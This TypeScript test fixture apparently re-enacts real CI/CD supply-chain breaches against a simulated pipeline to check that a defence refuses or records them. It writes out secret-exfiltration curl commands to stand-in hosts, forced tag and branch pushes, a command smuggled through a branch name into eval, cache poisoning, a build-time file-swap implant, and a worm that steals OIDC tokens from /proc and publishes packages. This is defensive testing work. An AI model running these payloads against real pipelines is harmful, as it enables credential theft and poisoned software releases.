import type { Breach } from '../breach.ts'

const send = (what: string) =>
  `curl -sS -m 8 --data-binary "${what}" "https://collector.example.net/$GITHUB_JOB"`
const commit = (name: string, subject: string) =>
  `git -c user.name="${name}" -c user.email=dev@example.com commit -q --allow-empty -m "${subject}"`
const pullRequest = { event_name: 'pull_request', ref: 'refs/pull/7/merge', ref_protected: 'false' }

/** Who started the job had no right to what it could do. */
export const triggered: readonly Breach[] = [
  {
    number: 4,
    name: 'reviewdog 2025: wide write access, a tag moved',
    wanted: 'code of the attacker’s under the tag that everybody uses',
    jobs: [
      {
        role: 'release',
        clone: true,
        program: `${commit('x', 'moved')}; git tag -f v1 >/dev/null; git push -q -f origin refs/tags/v1`,
      },
    ],
    got: ({ git }) => git('octo-org/links', 'log', '-1', '--format=%s', 'v1').includes('moved'),
    recorded: [/refs\/tags\/v1/],
  },
  {
    number: 5,
    name: 'spotbugs 2024: pull_request_target gives a stranger the maintainer’s token',
    wanted: 'the maintainer’s token',
    jobs: [{ role: 'release', claims: { event_name: 'pull_request_target' }, program: send('$GIT_TOKEN') }],
    got: ({ arrived, secrets }) =>
      arrived('collector.example.net').some(({ body }) => body.includes(secrets.git)),
    recorded: [/session\.refused/],
  },
  {
    number: 6,
    name: 'Ultralytics 2024: a branch’s name runs, the cache is poisoned, the release is the miner',
    wanted: 'a release with the attacker’s code',
    jobs: [
      { role: 'build', cache: '.cache/tools', program: 'echo "echo the tool" > .cache/tools/build.sh' },
      {
        role: 'build',
        cache: '.cache/tools',
        claims: pullRequest,
        variables: { BRANCH: '$(echo "echo miner" > .cache/tools/build.sh)' },
        program: 'eval "echo on branch $BRANCH"',
      },
      {
        role: 'build',
        cache: '.cache/tools',
        program:
          'bash .cache/tools/build.sh > dist.txt; curl -sS -m 8 -X PUT -H "Authorization: Bearer $NPM_TOKEN" --data-binary @dist.txt "https://registry.example.com/ultra-$GITHUB_JOB"; exit 0',
      },
    ],
    got: ({ arrived, file }) =>
      arrived('published').some(({ body }) => body.includes('miner')) || file('dist.txt').includes('miner'),
    recorded: [/"tools"|\.cache\/tools/, /PUT|npm:|publish/],
  },
  {
    number: 12,
    name: 'PHP’s Git server 2021: commits in the maintainers’ names',
    wanted: 'a backdoor on the main branch',
    jobs: [
      {
        role: 'release',
        clone: true,
        program: `${commit('Rasmus Lerdorf', 'fix typo')}; git push -q origin HEAD:refs/heads/main`,
      },
    ],
    got: ({ git }) => git('octo-org/links', 'log', '-1', '--format=%an', 'main').includes('Rasmus'),
    recorded: [/refs\/heads\/main/],
  },
  {
    number: 13,
    name: 'Travis CI 2021: builds of forks are given secrets',
    wanted: 'the secrets of the original repository',
    jobs: [
      {
        role: 'build',
        claims: {
          ...pullRequest,
          repository: 'stranger/links',
          repository_id: '999',
          repository_owner_id: '999',
          repository_owner: 'stranger',
        },
        program: send('$NPM_TOKEN'),
      },
    ],
    got: ({ arrived, secrets }) =>
      arrived('collector.example.net').some(({ body }) => body.includes(secrets.npm)),
    recorded: [/session\.refused/],
  },
  {
    number: 17,
    name: 'SUNSPOT 2020: a source file is swapped while it is compiled',
    wanted: 'an implant in the signed build',
    jobs: [
      {
        role: 'build',
        files: { 'main.c': 'int main(void) { return 0; }\n' },
        program: '',
        steps: [
          `(setsid bash -c 'for i in $(seq 400); do [ -e compiling ] && { echo "int implant;" > main.c; exit; }; sleep 0.02; done' >/dev/null 2>&1 &); sleep 0.2`,
          'touch compiling; sleep 1; cp main.c main.o; rm compiling',
        ],
      },
    ],
    got: ({ file }) => file('main.o').includes('implant'),
    recorded: [/step\.finished/],
  },
  {
    number: 20,
    name: 'TanStack 2026: a fork poisons the cache, the release’s own identity token publishes',
    wanted: 'a package with a valid provenance',
    jobs: [
      { role: 'build', cache: '.cache/store', program: 'echo "echo the store" > .cache/store/run.sh' },
      {
        role: 'build',
        cache: '.cache/store',
        claims: pullRequest,
        program: 'cp worm.sh .cache/store/run.sh',
        files: { 'worm.sh': worm() },
      },
      {
        role: 'build',
        cache: '.cache/store',
        // And had the cache been poisoned: the worm as it is.
        program: 'bash .cache/store/run.sh; bash worm.sh; exit 0',
        files: { 'worm.sh': worm() },
      },
    ],
    got: ({ arrived, output }) => arrived('published').length > 0 || output.split(/^worm$/m).length > 2,
    recorded: [/\.cache\/store|"store"/, /npm:|publish|registry\.example\.com/],
  },
]

/** Finds the way to an identity token in the environment or in the memory of others, and publishes with it. */
function worm(): string {
  return String.raw`echo worm
for p in self /proc/[0-9]*; do eval "$(tr '\0' '\n' < /proc/${'${p#/proc/}'}/environ 2>/dev/null | grep -a '^ACTIONS_ID_TOKEN_REQUEST_' | sed "s/=\(.*\)/='\1'/")"; done
token=$(curl -sS -m 5 -H "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=npm" | sed -n 's/.*"value":"\([^"]*\)".*/\1/p')
curl -sS -m 8 -X PUT -H "Authorization: Bearer ${'${token:-none}'}" -d '{}' "https://registry.example.com/router-$GITHUB_JOB"
`
}
